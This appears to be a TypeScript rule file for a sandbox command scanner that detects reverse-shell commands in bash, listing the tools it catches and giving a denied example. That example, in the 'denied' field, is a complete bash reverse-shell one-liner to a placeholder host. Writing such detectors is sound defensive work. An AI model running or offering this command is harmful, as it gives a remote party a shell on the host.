import type { BashRule } from '../../rule.ts';
import { hostileCommands } from '../../texts/hostile-commands.ts';
import { matchingLines } from './matching-lines.ts';

export const reverseShell: BashRule = {
  id: 'sh-reverse-shell',
  severity: 'high',
  title: 'It gives a remote host a shell ({name}).',
  cause: 'Whoever is at the other end has a prompt in the sandbox.',
  explanation:
    '`/dev/tcp`, `nc -e`, a pipe of `mkfifo` to `nc`, `socat exec:` and one-liners of other languages with a socket; quotes and variables are seen through.',
  hint: 'Leave it out; sandboxes have no network.',
  denied: 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n',
  allowed: 'bash -c "echo hi"\n',
  find: (facts) => matchingLines(facts, hostileCommands.reverseShell.pattern),
};
